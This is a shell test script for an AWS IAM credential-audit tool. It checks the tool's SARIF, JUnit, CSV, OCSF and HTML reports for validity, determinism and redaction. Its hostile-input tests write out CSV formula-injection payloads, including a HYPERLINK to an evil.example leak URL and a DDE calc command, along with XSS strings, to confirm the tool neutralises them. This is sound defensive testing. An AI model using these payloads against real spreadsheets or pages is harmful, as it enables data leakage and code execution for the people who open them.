#!/bin/sh
# Tests of the sarif, junit, csv, ocsf and html formats: each output checked
# by a parser of its own syntax (python3 jsonschema against the official
# SARIF 2.1.0 schema, xmllint, python3 csv, jq), hostile report text and
# file names in every format, --redact, determinism.
# Prints one line per failed check and "formats: N passed, N failed".
cd "$(dirname "$0")/.." || exit 1
. test/lib.sh
# The Debian interpreter, which sees python3-jsonschema (scripts/deps.sh).
PY=python3
[ -x /usr/bin/python3 ] && PY=/usr/bin/python3
ROOT=$PWD
case $BIN in /*) ;; *) BIN=$ROOT/$BIN ;; esac
FORMATS="sarif junit csv ocsf html"

# valid FORMAT FILE: the output parses in its own syntax
sarif_valid() {
	"$PY" - "$1" test/data/sarif-schema-2.1.0.json <<'PYEOF'
import json, sys, jsonschema
doc = json.load(open(sys.argv[1], encoding="utf-8"))
schema = json.load(open(sys.argv[2], encoding="utf-8"))
jsonschema.Draft4Validator.check_schema(schema)
errors = list(jsonschema.Draft4Validator(schema).iter_errors(doc))
for e in errors[:5]:
    print("  sarif schema:", "/".join(map(str, e.path)), e.message[:200])
sys.exit(1 if errors else 0)
PYEOF
}
csv_valid() {
	"$PY" - "$1" <<'PYEOF'
import csv, sys
with open(sys.argv[1], newline="", encoding="utf-8") as f:
    rows = list(csv.reader(f, strict=True))
head = "file,account,rule,severity,user,arn,line,credential,message,status,as_of,evidence,waiver,sha256,container,title,references,remediation".split(",")
assert rows[0] == head, rows[0]
for r in rows[1:]:
    assert len(r) == len(head), r
    for cell in r:
        assert not cell or cell[0] not in "=+-@\t\r", "formula cell: %r" % cell
PYEOF
}
# xmllint --html knows HTML 4 only: HTML5 and SVG element names are
# reported as unknown tags; any other complaint is a failure.
html_valid() {
	xmllint --html --noout "$1" 2>"$T/lint"
	! grep 'error' "$T/lint" | grep -Ev 'Tag (header|main|section|footer|svg|text|rect|title) invalid' | grep -q . &&
		xmllint --noout "$1" 2>/dev/null
}
valid() {
	case $1 in
	sarif) sarif_valid "$2" ;;
	junit) xmllint --noout "$2" 2>/dev/null ;;
	csv) csv_valid "$2" ;;
	ocsf) jq -e -s 'all(.[]; .class_uid == 2003 or .class_uid == 2004)' "$2" >/dev/null ;;
	html) html_valid "$2" ;;
	esac
}

# ---- every format listed and selectable, each output valid ----
# (one rule, so that the counts below are those of the fixtures' root rows)
RA="--rules root-access-key"
"$BIN" --list-formats >"$T/list"
for f in $FORMATS; do
	check "--list-formats lists $f" grep -q "^$f " "$T/list"
	"$BIN" $RA --format "$f" fixtures/demo.csv fixtures/cases/fail-both.csv \
	    fixtures/cases/pass.csv fixtures/cases/err-two-roots.csv >"$T/out.$f" 2>"$T/err"
	check "$f: exit status is the audit's (3)" test $? = 3
	check "$f: output is valid" valid "$f" "$T/out.$f"
	"$BIN" $RA --format "$f" fixtures/demo.csv fixtures/cases/fail-both.csv \
	    fixtures/cases/pass.csv fixtures/cases/err-two-roots.csv >"$T/again" 2>&1
	check "$f: same input, same bytes" cmp -s "$T/out.$f" "$T/again"
	"$BIN" --format "$f" fixtures/demo.csv >/dev/full 2>/dev/null
	check "$f: write error exits 4" test $? = 4
	check "$f: as-of stated" grep -q '2024-05-31T23:59:00Z\|1717199940000' "$T/out.$f"
done
# the schema check can fail: a wrong version and a result without message
jq '.version = "2.0" | .runs[0].results[0].message = 1' "$T/out.sarif" >"$T/badsarif"
sarif_valid "$T/badsarif" >"$T/badlog" 2>&1
check "sarif schema check rejects a broken document" test $? = 1
check "sarif schema check names the errors" grep -q 'sarif schema' "$T/badlog"

# directories walked in parallel: the same bytes for any --jobs
for f in $FORMATS; do
	"$BIN" -q --redact --format "$f" --jobs 1 fixtures/cases fixtures/containers >"$T/j1" 2>/dev/null
	"$BIN" -q --redact --format "$f" --jobs 2 fixtures/cases fixtures/containers >"$T/j2" 2>/dev/null
	check "$f: directories, --jobs 1 and 2 give the same bytes" cmp -s "$T/j1" "$T/j2"
	check "$f: directories, output valid" valid "$f" "$T/j2"
done

# ---- SARIF content ----
s=$T/out.sarif
check "sarif: 3 results (1 + 2 findings)" test "$(jq '.runs[0].results | length' "$s")" = 3
check "sarif: rule table" test "$(jq -r '.runs[0].tool.driver.rules[0] | "\(.id) \(.defaultConfiguration.level)"' "$s")" = "root-access-key error"
check "sarif: uri relative, line of the row" test "$(jq -r '.runs[0].results[2].locations[0].physicalLocation | "\(.artifactLocation.uri) \(.region.startLine)"' "$s")" = "fixtures/cases/fail-both.csv 2"
check "sarif: artifact per input" test "$(jq '.runs[0].artifacts | length' "$s")" = 4
check "sarif: failed input is a notification" test "$(jq -r '.runs[0].invocations[0] | "\(.executionSuccessful) \(.toolExecutionNotifications[0].locations[0].physicalLocation.region.startLine)"' "$s")" = "false 4"
check "sarif: pass recorded" test "$(jq -r '.runs[0].artifacts[2].properties | "\(.verdict) \(.results[0].status)"' "$s")" = "pass pass"
"$BIN" $RA --format sarif "$PWD/fixtures/demo.csv" >"$T/abs.sarif" 2>/dev/null
check "sarif: absolute path below cwd made relative" test "$(jq -r '.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri' "$T/abs.sarif")" = fixtures/demo.csv
cp fixtures/demo.csv "$T/outside.csv"
"$BIN" --format sarif "$T/outside.csv" >"$T/abs.sarif" 2>/dev/null
check "sarif: path outside cwd is a file URI" test "$(jq -r '.runs[0].artifacts[0].location.uri' "$T/abs.sarif")" = "file://$T/outside.csv"

# ---- JUnit content ----
j=$T/out.junit
check "junit: a testsuite per input" test "$(xmllint --xpath 'count(//testsuite)' "$j")" = 4
check "junit: failure counted" test "$(xmllint --xpath 'string(//testsuite[@name="fixtures/cases/fail-both.csv"]/@failures)' "$j")" = 1
check "junit: both findings in the failure" test "$(xmllint --xpath 'string(//testsuite[@name="fixtures/cases/fail-both.csv"]//failure)' "$j" | grep -c '^line 2')" = 2
check "junit: error input" test "$(xmllint --xpath 'string(//testsuite[@name="fixtures/cases/err-two-roots.csv"]/@errors)' "$j")" = 1
check "junit: counts agree with testcases" test "$(xmllint --xpath 'sum(//testsuite/@tests)' "$j")" = "$(xmllint --xpath 'count(//testcase)' "$j")"
"$BIN" --format junit --rules root-access-key fixtures/cases/layout-2014-16col.csv >"$T/old.junit" 2>/dev/null
check "junit: 16-column layout valid" xmllint --noout "$T/old.junit"

# ---- JUnit against the Jenkins xunit plugin's schema (test/xsd/junit-10.xsd),
# over every fixture, waivers, --fail-on, --redact, a benchmark, containers,
# hostile text, and all inputs at once ----
XSD=test/xsd/junit-10.xsd
n=0
bad=""
for a in "fixtures/demo.csv" "fixtures/cases/pass.csv" "fixtures/cases/err-two-roots.csv" \
    "--fail-on critical fixtures/demo.csv" "--redact fixtures/demo.csv test/data/hostile-users.csv" \
    "--benchmark cis-1.4 --as-of 2024-06-01 fixtures/demo.csv" \
    "--waivers fixtures/waivers/demo.json fixtures/demo.csv" \
    "--rules root-access-key fixtures/cases/layout-2014-16col.csv" \
    "fixtures/containers/demo.json.gz fixtures/containers/err-truncated.csv.gz" \
    "fixtures/cases/hostile-text.csv test/data/hostile-users.csv" \
    "$(echo fixtures/cases/*.csv)" "$(echo fixtures/realworld/*.csv)"; do
	# shellcheck disable=SC2086
	"$BIN" --format junit $a >"$T/x.junit" 2>/dev/null
	n=$((n + 1))
	xmllint --noout --schema "$XSD" "$T/x.junit" 2>/dev/null || bad="$bad [$a]"
done
check "junit: $n runs valid against the xunit plugin's junit-10.xsd$bad" test -z "$bad"
sed 's/<testsuite name=/<testsuite nome=/' "$j" >"$T/bad.junit"
check "junit: the schema check can fail (a testsuite without its name attribute spelt right)" sh -c "! xmllint --noout --schema $XSD '$T/bad.junit' 2>/dev/null"
check "junit: root totals are the suites' sums" test "$(xmllint --xpath 'concat(/testsuites/@tests, " ", /testsuites/@failures, " ", /testsuites/@errors, " ", /testsuites/@time)' "$j")" = "$(xmllint --xpath 'concat(sum(//testsuite/@tests), " ", sum(//testsuite/@failures), " ", sum(//testsuite/@errors))' "$j") 0"
"$BIN" --format junit fixtures/demo.csv fixtures/cases/fail-both.csv \
    fixtures/cases/pass.csv fixtures/cases/err-two-roots.csv >"$T/all.junit" 2>/dev/null
check "junit: root totals of the run (31 tests, 15 failures, 1 error, time 0)" test "$(xmllint --xpath 'concat(/testsuites/@tests, " ", /testsuites/@failures, " ", /testsuites/@errors, " ", /testsuites/@time)' "$T/all.junit")" = "31 15 1 0"
check "junit: timestamp is the as-of moment" test "$(xmllint --xpath 'string(//testsuite[@name="fixtures/demo.csv"]/@timestamp)' "$j")" = "$(xmllint --xpath 'string(//testsuite[@name="fixtures/demo.csv"]/properties/property[@name="as_of"]/@value)' "$j")"
check "junit: timestamp 2024-05-31T23:59:00Z" test "$(xmllint --xpath 'string(//testsuite[1]/@timestamp)' "$j")" = 2024-05-31T23:59:00Z
check "junit: every time is 0" test "$(xmllint --xpath 'count(//*[@time and @time != "0"])' "$j")" = 0
check "junit: classname credaudit.ACCOUNT (one dot: Jenkins package credaudit)" test "$(xmllint --xpath 'string(//testsuite[1]/testcase[1]/@classname)' "$j")" = credaudit.111122223333
check "junit: no classname with a second dot" test "$(xmllint --xpath 'count(//testcase[contains(substring-after(@classname, "credaudit."), ".")])' "$j")" = 0
check "junit: error input's classname has no dot past credaudit." test "$(xmllint --xpath 'string(//testsuite[@name="fixtures/cases/err-two-roots.csv"]/testcase/@classname)' "$j")" = credaudit.fixtures/cases/err-two-roots_csv
check "junit: failure message names the users" test "$(xmllint --xpath 'string(//testsuite[1]/testcase[@name="access-key-not-rotated"]/failure/@message)' "$T/all.junit")" = "4 findings: Active access keys of IAM users were rotated in time (failed): alice, deploy-bot, root"
{ sed -n 1,2p fixtures/demo.csv
  for k in 01 02 03 04 05 06 07 08 09 10 11 12 13; do
	echo "u$k,arn:aws:iam::111122223333:user/u$k,2020-01-15T12:00:00+00:00,true,2024-05-30T07:00:00+00:00,2024-01-10T12:00:00+00:00,N/A,false,false,N/A,N/A,N/A,N/A,false,N/A,N/A,N/A,N/A,false,N/A,false,N/A"
  done; } >"$T/many.csv"
"$BIN" --format junit --rules user-console-without-mfa "$T/many.csv" >"$T/many.junit" 2>/dev/null
check "junit: 10 principals named in the message, then how many more" test "$(xmllint --xpath 'string(//failure/@message)' "$T/many.junit")" = "13 findings: Every IAM user with a console password has MFA (failed): u01, u02, u03, u04, u05, u06, u07, u08, u09, u10, and 3 more"
check "junit: the failure body lists every principal" test "$(xmllint --xpath 'string(//failure)' "$T/many.junit" | grep -c '^line [0-9]*  u[0-9][0-9]  ')" = 13

# ---- CSV content ----
c=$T/out.csv
check "csv: a row per finding, pass and error" test "$("$PY" -c 'import csv,sys; print(" ".join(r[9] for r in list(csv.reader(open(sys.argv[1], newline="")))[1:]))' "$c")" = "fail fail fail pass error"
check "csv: CRLF line ends" test "$(head -1 "$c" | od -An -c | tr -d ' \n' | tail -c 4)" = '\r\n'

# ---- OCSF content ----
o=$T/out.ocsf
check "ocsf: one Detection Finding per finding and line" test "$(grep -c "\"class_uid\":2004" "$o")" = 3
check "ocsf: class, severity, resource" test "$(jq -r -s '[.[] | select(.class_uid == 2004)][0] | "\(.class_uid) \(.type_uid) \(.severity_id) \(.resources[0].uid) \(.cloud.account.uid) \(.time)"' "$o")" = "2004 200401 5 arn:aws:iam::111122223333:root 111122223333 1717199940000"

# ---- HTML content ----
h=$T/out.html
check "html: no script element" sh -c "! grep -qi '<script' '$h'"
check "html: no URL to fetch" sh -c "! grep -Eiq '(src|href)=\"[a-z]*:|url\\(|@import|https?://[^\"]*\"' '$h' || ! grep -Ei 'https?://' '$h' | grep -v 'xmlns=\"http://www.w3.org/2000/svg\"' | grep -q ."
check "html: strict CSP" grep -q "Content-Security-Policy\" content=\"default-src 'none'" "$h"
check "html: verdict at the top" grep -q 'id="verdict">Verdict: ERROR' "$h"
check "html: inline SVG chart" grep -q '<svg xmlns="http://www.w3.org/2000/svg"' "$h"

# ---- all rules, a benchmark and waivers ----
W="--as-of 2024-06-01 --benchmark cis-1.4 --waivers fixtures/waivers/demo.json"
for f in $FORMATS; do
	"$BIN" $W --format "$f" fixtures/demo.csv >"$T/w.$f" 2>"$T/err"
	check "waivers $f: exit 1" test $? = 1
	check "waivers $f: valid" valid "$f" "$T/w.$f"
done
check "waivers sarif: applied waivers are suppressions" test "$(jq '[.runs[0].results[] | select(.suppressions[0].status == "accepted")] | length' "$T/w.sarif")" = 3
check "waivers sarif: justification kept" test "$(jq -r '[.runs[0].results[] | select(.ruleId == "two-active-keys")][0].suppressions[0].justification' "$T/w.sarif")" = "key rotation under way, ticket SEC-42"
check "waivers sarif: expired waiver is no suppression" test "$(jq -r '[.runs[0].results[] | select(.ruleId == "root-mfa")][0] | "\(.suppressions) \(.properties.waiver.status)"' "$T/w.sarif")" = "null expired"
check "sarif: rule help carries remediation" sh -c "jq -r '.runs[0].tool.driver.rules[0].help.text' '$T/w.sarif' | grep -q '^Remediation:'"
check "sarif: clause of the benchmark" test "$(jq -r '.runs[0].artifacts[0].properties.results[] | select(.rule == "root-mfa") | .clause' "$T/w.sarif")" = 1.5
check "waivers junit: all-waived rule passes" test "$(xmllint --xpath 'count(//testcase[@name="two-active-keys"]/failure)' "$T/w.junit")" = 0
check "waivers junit: failures counted without it" test "$(xmllint --xpath 'string(//testsuite/@failures)' "$T/w.junit")" = 6
check "waivers junit: failure shows the waiver and remediation" sh -c "xmllint --xpath 'string(//testcase[@name=\"access-key-not-rotated\"]/failure)' '$T/w.junit' | grep -q '^  waived (waiver 2' && xmllint --xpath 'string(//testcase[@name=\"access-key-not-rotated\"]/failure)' '$T/w.junit' | grep -q '^remediation:'"
check "waivers csv: waived rows" test "$("$PY" -c 'import csv,sys; print(sum(r[9] == "waived" and r[12].startswith("applied: ") for r in csv.reader(open(sys.argv[1], newline=""))))' "$T/w.csv")" = 3
check "waivers ocsf: suppressed findings" test "$(jq -s '[.[] | select(.status_id == 3 and .comment != null)] | length' "$T/w.ocsf")" = 3
check "ocsf: remediation" test "$(jq -s -r '.[0].remediation.desc' "$T/w.ocsf" | cut -c1-3)" = "1. "
check "waivers html: waivers table and remediation" sh -c "grep -q '<table class=\"waivers\">' '$T/w.html' && grep -q 'id=\"remediation\"' '$T/w.html' && grep -q 'key rotation under way, ticket SEC-42' '$T/w.html'"

# ---- evidence of containers: size, SHA-256, decoding chain ----
C="fixtures/containers/demo.json.gz fixtures/containers/err-json-csv-two-roots.json"
sum=$(sha256sum fixtures/containers/demo.json.gz | cut -d' ' -f1)
size=$(wc -c <fixtures/containers/demo.json.gz | tr -d ' ')
for f in $FORMATS; do
	"$BIN" --format "$f" $C >"$T/c.$f" 2>"$T/err"
	check "containers $f: exit 3, valid" test $? = 3
	check "containers $f: valid" valid "$f" "$T/c.$f"
	check "containers $f: SHA-256 of the file stated" grep -q "$sum" "$T/c.$f"
done
check "sarif: artifact hashes sha-256 and length" test "$(jq -r '.runs[0].artifacts[0] | "\(.hashes["sha-256"]) \(.length)"' "$T/c.sarif")" = "$sum $size"
check "sarif: a line inside a container says so" test "$(jq -r '.runs[0].results[0].locations[0].physicalLocation.properties.container' "$T/c.sarif")" = "gzip > aws-cli-json > base64 > csv"
check "sarif: error position inside a container" test "$(jq -r '.runs[0].invocations[0].toolExecutionNotifications[0].locations[0].properties.within' "$T/c.sarif")" = "Content (base64 CSV)"
check "junit: evidence properties" test "$(xmllint --xpath 'string(//testsuite[1]/properties/property[@name="container"]/@value)' "$T/c.junit")" = "gzip > aws-cli-json > base64 > csv"
check "html: evidence block with container" grep -q '<dt>container</dt><dd>gzip &gt; aws-cli-json &gt; base64 &gt; csv</dd>' "$T/c.html"
check "ocsf: input evidence" test "$(jq -s -r '[.[] | select(.class_uid == 2004)][0].unmapped.credaudit.input | "\(.size) \(.sha256)"' "$T/c.ocsf")" = "$size $sum"
check "csv: error position inside a container" grep -q 'line 4, field 1 of the Content (base64 CSV): second' "$T/c.csv"

# ---- hostile text: report values and file names in every format ----
payload='=HYPERLINK(""http://evil.example/x"",""y"")<script>alert(1)</script>'"'"'\\'
ctl=$(printf '\001\033[2J\177\377\342\200\256')
hn="$T/=HYPERLINK(\"x\")<script>alert('f')<\\script>$ctl.csv"
export payload ctl
{ head -1 fixtures/demo.csv
  sed -n 2p fixtures/demo.csv | awk -F, -v OFS=, '{
	$12 = "\"" ENVIRON["payload"] ENVIRON["ctl"] "\""
	$13 = "\"-cmd|\x27 /C calc\x27!A0\""
	print }'
  sed -n '3,$p' fixtures/demo.csv; } >"$hn"
"$BIN" "$hn" >/dev/null 2>&1
check "hostile: report is audited" test $? = 1
for f in $FORMATS; do
	"$BIN" --format "$f" "$hn" fixtures/cases/hostile-text.csv >"$T/h.$f" 2>"$T/err"
	check "hostile $f: exit 1" test $? = 1
	check "hostile $f: valid $f" valid "$f" "$T/h.$f"
	check "hostile $f: no control byte" sh -c "! LC_ALL=C tr -d '\\n\\r' <'$T/h.$f' | LC_ALL=C grep -q '[[:cntrl:]]' || test $f = csv"
done
for f in junit html; do
	check "hostile $f: no markup from the report" sh -c "! grep -q '<script\|<\\\\script' '$T/h.$f'"
	check "hostile $f: payload shown escaped" grep -qF '&lt;script&gt;alert(1)' "$T/h.$f"
	check "hostile $f: ASCII only" sh -c "! LC_ALL=C grep -q '[^ -~]' '$T/h.$f'"
done
check "hostile sarif: payload kept as data" test "$(jq -r '.runs[0].results[0].properties.evidence.access_key_1_last_used_region' "$T/h.sarif" | head -c 22)" = '=HYPERLINK("http://evi'
check "hostile ocsf: payload kept as data" test "$(jq -r -s '[.[] | select(.class_uid == 2004)][0].evidences[0].data.access_key_1_last_used_service' "$T/h.ocsf")" = "-cmd|' /C calc'!A0"
"$PY" - "$T/h.csv" <<'PYEOF' >"$T/cells" 2>&1
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
r = rows[1]
print(r[0].startswith("'") is False and "=HYPERLINK" in r[0])
print(r[11].split("; ")[2].split("=", 1)[1][:12])
print(any("\x1b" in c or "\x01" in c for row in rows for c in row))
PYEOF
check "hostile csv: cells parse, formulas neutralised, no control chars ($(tr '\n' ' ' <"$T/cells"))" test "$(cat "$T/cells")" = "$(printf "True\n=HYPERLINK(\"\nFalse")"
"$PY" -c 'import csv,sys; r=list(csv.reader(open(sys.argv[1],newline="",encoding="utf-8"))); sys.exit(0 if r[1][11].split("; ")[3].startswith("access_key_1_last_used_service=-cmd") and r[1][0][0] != "=" else 1)' "$T/h.csv"
check "hostile csv: evidence cell text kept" test $? = 0
"$PY" -c 'import csv,sys; r=list(csv.reader(open(sys.argv[1],newline="",encoding="utf-8"))); sys.exit(0 if all(c == "" or c[0] not in "=+-@\t\r" for row in r for c in row) else 1)' "$T/h.csv"
check "hostile csv: no cell starts a formula" test $? = 0
cp "$hn" "$T/=1+1.csv"
(cd "$T" && "$BIN" --format csv "=1+1.csv" >"$T/f.csv" 2>/dev/null)
check "hostile csv: file name cell neutralised" grep -q "^'=1+1.csv," "$T/f.csv"

# ---- hostile user names with findings (test/data/hostile-users.csv):
# formulas, markup, quotes, backslashes, controls, invalid UTF-8, bidi ----
HU=test/data/hostile-users.csv
for f in $FORMATS; do
	"$BIN" --format "$f" "$HU" >"$T/hu.$f" 2>"$T/err"
	check "hostile users $f: exit 1" test $? = 1
	check "hostile users $f: valid $f" valid "$f" "$T/hu.$f"
done
for f in junit html; do
	check "hostile users $f: no markup injected" sh -c "! grep -Eq '<(script|img)|]]>|onerror=alert\(1\)>' '$T/hu.$f'"
	check "hostile users $f: ASCII only, no control byte" sh -c "! LC_ALL=C tr -d '\\n' <'$T/hu.$f' | LC_ALL=C grep -q '[^ -~]'"
	check "hostile users $f: names shown as text" grep -qF '&lt;script&gt;alert(origin)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;' "$T/hu.$f"
done
check "hostile users junit: 10 user findings in one failure" test "$(xmllint --xpath 'string(//testcase[@name="user-console-without-mfa"]/failure/@message)' "$T/hu.junit" | cut -d' ' -f1)" = 10
check "hostile users sarif: names kept exactly as data" test "$(jq -r '[.runs[0].results[] | select(.ruleId == "user-console-without-mfa") | .properties.user][0:2] | join("|")' "$T/hu.sarif")" = '=HYPERLINK("http://evil.example/?leak","click me")|<script>alert(origin)</script><img src=x onerror=alert(1)>'
check "hostile users sarif: invalid UTF-8 as U+FFFD" test "$(jq -r '[.runs[0].results[] | .properties.user | select(startswith("bad"))][0]' "$T/hu.sarif")" = "bad$(printf '\357\277\275\357\277\275')utf8$(printf '\357\277\275\357\277\275')"
check "hostile users ocsf: one line per finding, names as data" test "$(jq -s -r '[.[] | .resources[0].name | select(. == "-2+3" or . == "@SUM(A1:A9)")] | length' "$T/hu.ocsf")" = 2
"$PY" - "$T/hu.csv" <<'PYEOF' >"$T/hucells" 2>&1
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8"), strict=True))
users = [r[4] for r in rows[1:] if r[2] == "user-console-without-mfa"]
print(len(users))
print(users[0])
print(all(u[0] not in "=+-@\t\r" for u in users))
print([u for u in users if u.startswith("'-") or u.startswith("'@")])
PYEOF
check "hostile users csv: formulas neutralised, quotes intact ($(tr '\n' ' ' <"$T/hucells"))" test "$(cat "$T/hucells")" = "$(printf '%s\n' 10 "'=HYPERLINK(\"http://evil.example/?leak\",\"click me\")" True "[\"'-2+3\", \"'@SUM(A1:A9)\"]")"
for f in text json $FORMATS; do
	"$BIN" --redact --format "$f" "$HU" >"$T/hur.$f" 2>&1
	check "hostile users redact $f: no name left" sh -c "! grep -Eq 'HYPERLINK|<script|&lt;script|alert\(|quoted|pwned|SUM\(|fdp|TAB|CDATA|utf8' '$T/hur.$f'"
	check "hostile users redact $f: pseudonyms" grep -q 'user-0010' "$T/hur.$f"
done

# ---- csv under any separator: a spreadsheet may split on , ; or tab and
# open a quoted cell at any quote; whatever it uses, no cell it sees may
# start with = + - @ tab or CR (OWASP).  User names hide formulas behind
# each separator, a quote, a newline and spaces. ----
"$PY" - "$T/sep.csv" <<'PYEOF'
import csv, sys
hdr = open("fixtures/demo.csv", encoding="utf-8").readline().rstrip("\n")
root = open("fixtures/demo.csv", encoding="utf-8").readlines()[1].rstrip("\n")
names = ["x;=cmd|' /C calc'!A0;y", "a\t=1+1", 'q"=1+1', 'q";=1+1',
         "n\n=1+1", "n\r\n@SUM(1)", "s; =1", "c,+1", 'e;"-2', "t\t\t@x"]
for pre in ",;\t\"\n ":
    for d in "=+-@\t":
        names.append("u" + pre + d + "cmd|' /C calc'!A0" + pre + pre + d + "x")
with open(sys.argv[1], "w", encoding="utf-8", newline="") as f:
    f.write(hdr + "\n" + root + "\n")
    w = csv.writer(f, lineterminator="\n")
    for k, n in enumerate(names):
        w.writerow([n, "arn:aws:iam::111122223333:user/u%d" % k,
                    "2020-01-15T12:00:00+00:00", "true", "2024-05-30T07:00:00+00:00",
                    "2024-01-10T12:00:00+00:00", "N/A", "false", "false", "N/A", "N/A",
                    "N/A", "N/A", "false", "N/A", "N/A", "N/A", "N/A", "false", "N/A",
                    "false", "N/A"])
PYEOF
"$BIN" --format csv "$T/sep.csv" >"$T/sep.out" 2>"$T/err"
check "csv separators: report audited (exit 1)" test $? = 1
for d in comma semicolon tab; do
	"$PY" - "$T/sep.out" "$d" <<'PYEOF' >"$T/sep.$d" 2>&1
import csv, sys
d = {"comma": ",", "semicolon": ";", "tab": "\t"}[sys.argv[2]]
text = open(sys.argv[1], encoding="utf-8", newline="").read()
bad = [c for row in csv.reader(text.splitlines(True), delimiter=d)
       for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
print(len(bad), bad[:3])
PYEOF
	check "csv read with $d as separator: no cell starts a formula ($(head -c 300 "$T/sep.$d"))" test "$(cut -d' ' -f1 "$T/sep.$d")" = 0
done
"$PY" -c 'import csv,sys; r=[row[4] for row in csv.reader(open(sys.argv[1],newline="",encoding="utf-8")) if row[2] == "user-console-without-mfa"]; sys.exit(0 if len(r) == 40 and "x;'"'"'=cmd|'"'"' /C calc'"'"'!A0;y" in r else 1)' "$T/sep.out"
check "csv separators: every name kept, a formula behind ; neutralised" test $? = 0
# LibreOffice Calc imports the same output with ; (then tab, then ,) as the
# separator: no cell may become a formula (libreoffice-calc is optional in
# scripts/deps.sh)
if command -v soffice >/dev/null 2>&1; then
	mkdir -p "$T/lo"
	for sep in 59:semicolon 9:tab 44:comma; do
		cp "$T/sep.out" "$T/lo/${sep#*:}.csv"
		HOME=$T/lo timeout 180 soffice --headless \
		    "-env:UserInstallation=file://$T/lo/profile" \
		    --infilter="CSV:${sep%:*},34,76,1" --convert-to fods \
		    --outdir "$T/lo" "$T/lo/${sep#*:}.csv" >/dev/null 2>&1
		f=$T/lo/${sep#*:}.fods
		check "csv in LibreOffice with ${sep#*:} as separator: no formula cell" \
		    sh -c "grep -q 'calc' '$f' && ! grep -q 'table:formula=' '$f'"
	done
else
	echo "SKIP: soffice (libreoffice-calc) not installed: csv not checked in LibreOffice"
fi

# ---- csv: account ids, rule columns, byte order mark ----
sed 's/111122223333/012345678901/g' fixtures/demo.csv >"$T/zero.csv"
"$BIN" --format csv "$T/zero.csv" >"$T/zero.out" 2>/dev/null
check "csv: zero-led account valid" csv_valid "$T/zero.out"
check "csv: a 12-digit account in the console's form, leading zero kept" test "$("$PY" -c 'import csv,sys; print(" ".join(sorted(set(r[1] for r in list(csv.reader(open(sys.argv[1], newline="")))[1:]))))' "$T/zero.out")" = 0123-4567-8901
check "csv: the ARN keeps the id as written" grep -q 'arn:aws:iam::012345678901:root' "$T/zero.out"
"$BIN" --format csv fixtures/realworld/lstatro-cloud-search-root-key1-active.csv >"$T/odd.out" 2>/dev/null
check "csv: an account id that is not 12 digits is kept as written" "$PY" -c 'import csv,sys; r=list(csv.reader(open(sys.argv[1], newline="")))[1]; sys.exit(0 if r[1] == r[5].split(":")[4] and len(r[1]) != 12 else 1)' "$T/odd.out"
"$PY" - "$T/zero.out" <<'PYEOF' >"$T/rulecols" 2>&1
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8"), strict=True))
h = rows[0]
t, ref, rem = h.index("title"), h.index("references"), h.index("remediation")
r = [x for x in rows[1:] if x[2] == "root-access-key"][0]
p = [x for x in rows[1:] if x[9] == "pass"][0]
print(r[t] == "The root user has no active access key",
      "CIS AWS Foundations Benchmark 1.4.0: 1.4" in r[ref].split("; "),
      r[rem].startswith("1. Find what uses the key") and "\nverification: " in r[rem],
      bool(p[t]) and bool(p[ref]))
PYEOF
check "csv: title, references and remediation of the rule on finding and pass rows ($(cat "$T/rulecols"))" test "$(cat "$T/rulecols")" = "True True True True"
check "csv: no byte order mark by default" test "$(head -c 4 "$T/zero.out")" = file
"$BIN" --format csv --csv-bom "$T/zero.csv" >"$T/bom.out" 2>/dev/null
check "csv --csv-bom: EF BB BF, then the same bytes" sh -c "test \"\$(head -c 3 '$T/bom.out' | od -An -tx1 | tr -d ' ')\" = efbbbf && tail -c +4 '$T/bom.out' | cmp -s - '$T/zero.out'"
check "csv --csv-bom: python's utf-8-sig reads the header" "$PY" -c 'import csv,sys; sys.exit(0 if next(csv.reader(open(sys.argv[1], newline="", encoding="utf-8-sig")))[0] == "file" else 1)' "$T/bom.out"
"$BIN" --format json --csv-bom "$T/zero.csv" >"$T/bom.json" 2>/dev/null
check "--csv-bom: other formats unchanged" sh -c "head -c 1 '$T/bom.json' | grep -q '{'"

# LibreOffice Calc opens the csv with its default import options (no filter
# options given): the account cell is text and keeps its leading zero
if command -v soffice >/dev/null 2>&1; then
	mkdir -p "$T/lz"
	cp "$T/zero.out" "$T/lz/zero.csv"
	HOME=$T/lz timeout 180 soffice --headless "-env:UserInstallation=file://$T/lz/profile" \
	    --convert-to fods --outdir "$T/lz" "$T/lz/zero.csv" >/dev/null 2>&1
	"$PY" - "$T/lz/zero.fods" <<'PYEOF' >"$T/lz/cells" 2>&1
import re, sys
s = open(sys.argv[1], encoding="utf-8").read()
rows = re.findall(r"<table:table-row[^>]*>(.*?)</table:table-row>", s, re.S)
cells = re.findall(r"<table:table-cell([^>]*?)(?:/>|>(.*?)</table:table-cell>)", rows[1], re.S)
attrs, body = cells[1]
print(re.sub(r"<[^>]*>", "", body or "").strip(), 'office:value-type="string"' in attrs)
PYEOF
	check "csv in LibreOffice (default import): account 0123-4567-8901 is a text cell ($(cat "$T/lz/cells"))" test "$(cat "$T/lz/cells")" = "0123-4567-8901 True"
	# the control: bare digits lose their zero in the same import
	sed 's/0123-4567-8901/012345678901/' "$T/zero.out" >"$T/lz/bare.csv"
	HOME=$T/lz timeout 180 soffice --headless "-env:UserInstallation=file://$T/lz/profile" \
	    --convert-to fods --outdir "$T/lz" "$T/lz/bare.csv" >/dev/null 2>&1
	check "csv in LibreOffice: the control, bare digits become the number 12345678901" grep -q 'office:value="12345678901"' "$T/lz/bare.fods"
else
	echo "SKIP: soffice (libreoffice-calc) not installed: account cell not checked in LibreOffice"
fi

# ---- --redact: no user name or user ARN in any format ----
users=$(tail -n +2 fixtures/demo.csv | cut -d, -f1 | grep -v '^<root_account>$')
for f in text json $FORMATS; do
	"$BIN" --redact --format "$f" fixtures/demo.csv fixtures/cases/fail-both.csv >"$T/r.$f" 2>&1
	check "redact $f: same exit status" test $? = 1
	for u in $users; do
		# "root" is also a word of the messages: only its ARN form is checked
		pat="user/$u\\|[^a-z_;:<-]$u[^a-z_-]"
		[ "$u" = root ] && pat="user/$u"
		check "redact $f: no user $u" sh -c "! grep -q '$pat' '$T/r.$f'"
	done
	check "redact $f: account kept" grep -q 111122223333 "$T/r.$f"
	"$BIN" --redact --format "$f" fixtures/demo.csv fixtures/cases/fail-both.csv >"$T/r2" 2>&1
	check "redact $f: deterministic" cmp -s "$T/r.$f" "$T/r2"
done

